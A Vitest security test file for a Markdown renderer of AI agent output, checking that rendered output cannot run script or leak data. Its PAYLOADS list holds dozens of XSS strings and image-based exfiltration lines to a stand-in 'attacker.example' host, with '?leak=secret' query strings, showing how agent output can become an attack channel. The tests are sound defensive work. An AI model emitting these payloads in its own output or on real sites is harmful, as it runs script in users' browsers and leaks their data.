// Agent output is untrusted: nothing in it may run script, load from a host the site
// did not allow, or add attributes beyond the renderer's own. Every payload is checked
// rendered whole and streamed one character at a time.
import { afterEach, describe, expect, it } from 'vitest';
import { MarkdownStream, renderMarkdown } from '../../src/render/index.js';
import type { RenderOptions } from '../../src/render/index.js';
import { mount, removeMounted } from '../support/mount.js';

const ALLOWED = new Set([
  'p',
  'em',
  'strong',
  'del',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'ul',
  'ol',
  'li',
  'blockquote',
  'pre',
  'code',
  'a',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'hr',
  'br',
  'img',
  // the code block's wrapper, header bar, language and copy button; the table's wrapper
  'div',
  'span',
  'button',
]);
const ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'title', 'target', 'rel'],
  img: ['src', 'alt', 'title', 'loading', 'referrerpolicy'],
  ol: ['start'],
  code: ['class'],
  div: ['class', 'tabindex'],
  span: ['class'],
  button: ['type', 'class'],
  th: ['align'],
  td: ['align'],
  pre: ['tabindex'],
};

const win = window as unknown as { pwned?: number };

const PAYLOADS = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&#58;alert(1))',
  '[x](  javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](java\tscript:alert(1))',
  '[x](java&#9;script:alert(1))',
  '[x](\\javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '[x]\n\n[x]: &#106;avascript:alert(1) "t"',
  '<javascript:alert(1)>',
  '<JAVASCRIPT:alert(1)>',
  '<data:text/html,x>',
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<svg onload="window.pwned=1"><circle r="1"/></svg>',
  '<a href="javascript:window.pwned=1">click</a>',
  '<style>body{background:url(https://attacker.example/css)}</style>',
  '<form action="https://attacker.example/"><input type=image src="https://attacker.example/i"></form>',
  '<details open ontoggle="window.pwned=1">x</details>',
  '<div>\n*markdown* <b onclick="window.pwned=1">b</b>\n</div>',
  '| a | b |\n| - | - |\n| <img src=x onerror="window.pwned=1"> | <script>window.pwned=1</script> |',
  '```"><img src=x onerror="window.pwned=1">\ncode\n```',
  '``` js onload=x style=color:red\ncode\n```',
  '[x](https://example.com/"onmouseover="window.pwned=1)',
  '[x](https://example.com "title\\" onmouseover=\\"window.pwned=1")',
  '![x" onerror="window.pwned=1](https://attacker.example/a.png)',
  '![](https://attacker.example/p.png?leak=secret)',
  '![alt](//attacker.example/p.png?leak=secret)',
  '![alt](https://allowed.example@attacker.example/p.png)',
  '![alt](https://allowed.example.attacker.example/p.png)',
  '![alt](javascript:alert(1))',
  '![alt][img]\n\n[img]: https://attacker.example/ref.png?leak=secret',
  '[![img](https://attacker.example/in-link.png)](https://example.com)',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  // References go to the browser's HTML parser: markup dressed as one must not.
  '&<img src=x onerror="window.pwned=1">;',
  '&amp<img src=x onerror="window.pwned=1">;',
  '&#<script>window.pwned=1</script>;',
  '&lt;img src=x onerror="window.pwned=1"&gt; &amp;lt;b&amp;gt;',
  `&${'a'.repeat(40)}<img src=x onerror="window.pwned=1">;`,
  '[x](/a&<img src=x onerror="window.pwned=1">; "&<b onclick=x>;")',
  '[x]\n\n[x]: /u&<svg onload="window.pwned=1">; "t&<b>;"',
  '```&<img src=x onerror="window.pwned=1">;\ncode\n```',
  '[id](#x) <a name="x" id="clobber">',
];

function check(root: HTMLElement) {
  for (const e of root.querySelectorAll('*')) {
    const tag = e.localName;
    expect(ALLOWED, tag).toContain(tag);
    for (const { name } of e.attributes) {
      expect(name.startsWith('on'), name).toBe(false);
      expect(ATTRIBUTES[tag] ?? [], `${tag}[${name}]`).toContain(name);
    }
    if (tag === 'a') {
      expect(['http:', 'https:', 'mailto:']).toContain(new URL((e as HTMLAnchorElement).href).protocol);
      expect(e.getAttribute('target')).toBe('_blank');
      expect(e.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    }
    if (tag === 'img') {
      expect(new URL((e as HTMLImageElement).src).hostname).toBe('allowed.example');
      expect(e.getAttribute('referrerpolicy')).toBe('no-referrer');
      expect(e.getAttribute('loading')).toBe('lazy');
    }
    if (tag === 'code' && e.hasAttribute('class'))
      expect(e.getAttribute('class')).toMatch(/^language-[\p{L}\p{N}_+#.-]+$/u);
  }
}

const options: RenderOptions = { imageHosts: ['allowed.example'] };
afterEach(removeMounted);

function renders(md: string): HTMLElement[] {
  const whole = mount();
  renderMarkdown(md, whole, options);
  const streamed = mount();
  const s = new MarkdownStream(streamed, options);
  for (const ch of md) {
    s.push(ch);
    // Every intermediate state must be safe too, not only the final one.
    check(streamed);
  }
  s.end();
  expect(streamed.innerHTML).toBe(whole.innerHTML);
  return [whole, streamed];
}

/**
 * Resolves once an image of our own has failed to load: an error handler a payload had smuggled
 * in on an image of its own, queued before it, would have run by then.
 */
function afterImageErrors(): Promise<void> {
  return new Promise((resolve) => {
    const probe = new Image();
    probe.onerror = () => resolve();
    probe.src = 'data:image/png;base64,AA==';
  });
}

/**
 * Every URL `run` hands an element to fetch (a `src` or `srcset`, set as an attribute or a property):
 * rendering is synchronous, so no wait is needed to know that none was asked for. Links are not
 * fetched; the tests above check their URLs.
 */
function urlsHandedOut(run: () => void): string[] {
  const values: string[] = [];
  const setAttribute = Element.prototype.setAttribute;
  const src = Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src')!;
  Element.prototype.setAttribute = function (this: Element, name: string, value: string) {
    if (/^src(set)?$/i.test(name)) values.push(value);
    setAttribute.call(this, name, value);
  };
  Object.defineProperty(HTMLImageElement.prototype, 'src', {
    ...src,
    set(this: HTMLImageElement, value: string) {
      values.push(value);
      src.set!.call(this, value);
    },
  });
  try {
    run();
  } finally {
    Element.prototype.setAttribute = setAttribute;
    Object.defineProperty(HTMLImageElement.prototype, 'src', src);
  }
  return values;
}

describe('agent output cannot run script or leak data', () => {
  it.each(PAYLOADS)('%s', async (md) => {
    win.pwned = 0;
    for (const root of renders(md)) {
      check(root);
      // No element came out of the raw HTML.
      expect(root.querySelector('script, iframe, svg, style, form, input, details, b, object, embed')).toBeNull();
    }
    await afterImageErrors();
    expect(win.pwned).toBe(0);
  });

  it('hands the HTML parser that decodes references one whole reference, nothing else', () => {
    const proto = HTMLTextAreaElement.prototype;
    const inner = Object.getOwnPropertyDescriptor(Element.prototype, 'innerHTML')!;
    const seen: string[] = [];
    Object.defineProperty(proto, 'innerHTML', {
      configurable: true,
      get: inner.get,
      // A TrustedHTML from the renderer's policy reads as the string it wraps.
      set(this: Element, v: string) {
        seen.push(String(v));
        inner.set!.call(this, v);
      },
    });
    try {
      PAYLOADS.forEach(renders);
      // (Decoded references are cached: this one appears nowhere else in this file.)
      renders('&#x1F9EA;');
    } finally {
      Reflect.deleteProperty(proto, 'innerHTML');
    }
    expect(seen).toContain('&#x1F9EA;');
    for (const v of seen) expect(v).toMatch(/^&(?:#[xX][\da-fA-F]{1,6}|#\d{1,7}|[A-Za-z][A-Za-z\d]{1,31});$/);
  });

  it('renders a refused link as its text, without an anchor', () => {
    for (const md of ['[click *me*](javascript:alert(1))', '[click *me*](  JaVaScRiPt:alert(1))']) {
      for (const root of renders(md)) {
        expect(root.querySelector('a')).toBeNull();
        expect(root.innerHTML).toBe('<p>click <em>me</em></p>');
      }
    }
  });

  it('shows raw HTML as the text that was written', () => {
    for (const root of renders('<img src=x onerror=alert(1)> and <script>alert(1)</script>')) {
      expect(root.textContent).toBe('<img src=x onerror=alert(1)> and <script>alert(1)</script>');
    }
  });

  it('keeps http, https, mailto and relative links, opened in a new tab', () => {
    const [root] = renders(
      '[a](https://a.example/x) [b](http://b.example) [c](mailto:c@example.com) ' +
        '[d](/docs/page) <https://e.example> <f@example.com>',
    );
    const hrefs = [...root!.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(hrefs).toEqual([
      'https://a.example/x',
      'http://b.example',
      'mailto:c@example.com',
      '/docs/page',
      'https://e.example',
      'mailto:f@example.com',
    ]);
  });

  it('requests no image from a host that is not allowed, and renders its alt text instead', () => {
    const asked = urlsHandedOut(() => {
      for (const root of renders(
        'See ![the chart](https://attacker.example/p.png?leak=secret) and ' +
          '![x](//attacker.example/q.png) ![y](https://localhost.attacker.example/r.png)',
      )) {
        expect(root.querySelector('img')).toBeNull();
        expect(root.textContent).toBe('See the chart and x y');
      }
    });
    expect(asked.filter((url) => url.includes('attacker.example'))).toEqual([]);
    // The doors watched are the ones an image goes through.
    expect(urlsHandedOut(() => renders('![a](https://allowed.example/c.png)'))).toContain(
      'https://allowed.example/c.png',
    );
  });

  it('renders images from allowed hosts, without a referrer, lazily', () => {
    const [root] = renders('![a *chart*](https://allowed.example/c.png "Chart")');
    const img = root!.querySelector('img')!;
    expect(img.getAttribute('src')).toBe('https://allowed.example/c.png');
    expect(img.alt).toBe('a chart');
    expect(img.title).toBe('Chart');
    expect(img.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(img.getAttribute('loading')).toBe('lazy');
  });

  it('shows no images at all by default', () => {
    const div = mount();
    renderMarkdown('![a](https://allowed.example/c.png)', div);
    expect(div.innerHTML).toBe('<p>a</p>');
  });
});
